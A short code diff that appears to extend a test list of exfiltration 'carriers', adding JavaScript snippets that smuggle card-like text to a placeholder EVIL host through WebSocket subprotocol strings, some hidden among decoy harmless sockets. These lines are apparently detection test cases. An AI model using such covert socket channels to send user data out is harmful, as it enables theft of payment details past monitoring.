@@ -231,6 +231,15 @@ const CARRIERS: Way[] = [
     source: `try { new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); } catch {}`,
   },
   {
+    name: 'socket subprotocol beside a harmless socket to the same address',
+    source: `const bad = new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); for (let count = 0; count < 5; count++) { new WebSocket(EVIL.replace('https', 'wss') + '/s'); await new Promise((resolve) => setTimeout(resolve, 100)); }`,
+  },
+  {
+    name: 'socket subprotocol after a harmless socket to the same address, closed at once',
+    source: `new WebSocket(EVIL.replace('https', 'wss') + '/s').close(); const bad = new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); bad.close(); new WebSocket(EVIL.replace('https', 'wss') + '/s'); await new Promise((resolve) => setTimeout(resolve, 300));`,
+    control: false,
+  },
+  {
     name: 'socket frames to its own origin',
     source: `try { const socket = new WebSocket(EVIL.replace('https', 'wss') + '/s'); socket.onopen = () => socket.send(TEXT); } catch {}`,
   },
